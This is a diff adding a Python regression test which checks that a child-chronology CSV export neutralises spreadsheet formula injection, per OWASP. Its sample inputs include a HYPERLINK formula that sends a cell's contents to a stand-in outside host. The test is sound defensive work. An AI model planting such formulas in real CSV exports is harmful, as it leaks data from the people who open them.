@@ -382,3 +382,28 @@ def test_a_cell_holding_a_hash_is_quoted_so_comment_aware_readers_keep_it(
     assert '"Seen in room #4"' in text
     rows = list(csv.reader(io.StringIO(text)))
     assert [r[2] for r in rows if "room" in r[2]] == ["Seen in room #4"]
+
+
+#: Summaries a spreadsheet would run as formulas (OWASP CSV Injection), as stored.
+FORMULAS = ("=1+1", '=HYPERLINK("http://x.example/?"&A1)', "+1", "-1+1", "@SUM(1)", "\t=1+1")
+
+
+def test_the_chronology_csv_never_hands_a_spreadsheet_a_formula(
+    app_client: TestClient, db_session: Session
+) -> None:
+    # Issue 12 finding 7: cells starting =, +, -, @, tab or CR were written raw.
+    school, child = _child(db_session)
+    for number, summary in enumerate(FORMULAS):
+        make.event(db_session, school, f"s-f{number}", dt.date(2025, 4, 1), "PHY-INJ",
+                   [("S1", ParticipantRole.SUBJECT)], summary=summary)  # fmt: skip
+    authorise_client(app_client, db_session, agency=school)
+    response = app_client.get(f"/api/v1/children/{child.public_id}/chronology?format=csv")
+    assert response.status_code == 200, response.text
+    rows = list(csv.reader(io.StringIO(response.text, newline="")))
+    rows = [row for row in rows if not row[0].startswith(HELD_ELSEWHERE_MARKER)]
+    summaries = {row[2] for row in rows[1:]}
+    assert {f"'{summary}" for summary in FORMULAS} <= summaries
+    for summary in FORMULAS:
+        quoted = '"' + f"'{summary}".replace('"', '""') + '"'
+        assert quoted in response.text  # neutralised and quoted, as OWASP advises
+    assert not any(cell[:1] in set("=+-@\t\r") for row in rows for cell in row)
